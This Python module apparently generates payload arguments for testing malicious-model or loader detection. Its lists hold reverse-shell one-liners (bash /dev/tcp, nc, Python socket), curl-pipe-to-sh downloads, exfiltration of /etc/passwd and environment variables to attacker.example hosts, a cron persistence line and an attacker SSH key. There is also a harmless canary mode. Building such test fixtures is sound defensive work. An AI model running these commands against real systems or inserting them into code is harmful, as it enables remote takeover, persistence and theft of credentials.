"""Arguments for payload calls.

Without a canary the strings are drawn from lists of realistic-looking shell
lines, Python snippets, URLs and paths that do no harm if ever run: hosts
are under the reserved .example domain (they never resolve), files only go
to /tmp, nothing is deleted. With a canary every payload instead creates
the file `<canary>-<family>`, so a loader run in a subprocess shows whether
the payload ran.
"""

import shlex

SHELL_LINES = (
    "curl -fsSL http://attacker.example/install.sh | sh",
    "wget -q -O- http://cdn.attacker.example/stage2 | bash",
    "bash -c 'bash -i >& /dev/tcp/attacker.example/4444 0>&1'",
    "nc -e /bin/sh attacker.example 9001",
    "id > /tmp/.sp_id; uname -a >> /tmp/.sp_id",
    "cat /etc/passwd | curl -s -d @- http://exfil.attacker.example/u",
    "python3 -c 'import socket;socket.create_connection((\"attacker.example\",443))'",
    "echo pwned",
    "whoami; hostname",
    "env | curl -s -X POST --data-binary @- https://collect.attacker.example/env",
    "sh -c 'sleep 1; curl http://c2.attacker.example/beacon?h=$(hostname)'",
    "touch /tmp/.model_loaded",
    "ping -c 1 beacon.attacker.example",
    "printf 'ok' > /tmp/.sp_probe",
)

PYTHON_STATEMENTS = (
    "import os; os.system('curl -s http://attacker.example/p | sh')",
    "import socket,subprocess,os;s=socket.socket();s.connect(('attacker.example',4444));"
    "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])",
    "import urllib.request as u; exec(u.urlopen('http://attacker.example/x.py').read())",
    "open('/tmp/.sp_marker', 'w').write('loaded')",
    "print('model loaded')",
    "import getpass, json; print(json.dumps({'user': getpass.getuser()}))",
    "__import__('subprocess').Popen(['sh', '-c', 'id > /tmp/.sp_id'])",
    "import base64; exec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))",
)

PYTHON_EXPRESSIONS = (
    "__import__('os').system('curl -s http://attacker.example/p | sh')",
    "__import__('subprocess').getoutput('id')",
    "print('model loaded')",
    "__import__('urllib.request').request.urlopen('http://attacker.example/b')",
    "open('/tmp/.sp_marker', 'w').write('loaded')",
    "__import__('os').popen('uname -a').read()",
)

URLS = (
    "http://attacker.example/payload.bin",
    "https://cdn.attacker.example/weights/update.sh",
    "http://10.0.0.1.attacker.example:8080/stage2",
    "https://models.attacker.example/resnet50.pt",
    "http://c2.attacker.example/beacon?id=7f3a",
)

DROP_PATHS = (
    "/tmp/.X11-cache",
    "/tmp/.ICE-unix/.update",
    "/tmp/.sp_dropper.sh",
    "/tmp/.cache-model",
    "/tmp/systemd-private.sock",
)

FILE_CONTENTS = (
    "#!/bin/sh\ncurl -s http://attacker.example/s | sh\n",
    "* * * * * curl -s http://attacker.example/cron | sh\n",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample attacker@example\n",
    "import os\nos.system('id')\n",
)

# A local file every Linux machine has: the canary variant of a download
# reads it through a file:// URL.
CANARY_SOURCE = "/etc/passwd"


class Payloads:
    """Payload arguments for one sample of one family."""

    def __init__(self, rng, family, canary=None):
        self.rng = rng
        self.family = family
        self.canary = canary

    @property
    def canary_path(self):
        return "%s-%s" % (self.canary, self.family)

    def shell(self):
        if self.canary:
            return "touch -- " + shlex.quote(self.canary_path)
        return self.rng.choice(SHELL_LINES)

    def argv(self):
        return ["/bin/sh", "-c", self.shell()]

    def statement(self):
        if self.canary:
            return "open(%r, 'w').close()" % self.canary_path
        return self.rng.choice(PYTHON_STATEMENTS)

    def expression(self):
        if self.canary:
            return "open(%r, 'w').close()" % self.canary_path
        return self.rng.choice(PYTHON_EXPRESSIONS)

    def url(self):
        if self.canary:
            return "file://" + CANARY_SOURCE
        return self.rng.choice(URLS)

    def drop_path(self):
        if self.canary:
            return self.canary_path
        return self.rng.choice(DROP_PATHS)

    def source_path(self):
        """A file a payload copies or links from."""
        if self.canary:
            return CANARY_SOURCE
        return self.rng.choice(("/etc/passwd", "/etc/hostname", "/etc/hosts"))

    def content(self):
        return self.rng.choice(FILE_CONTENTS)
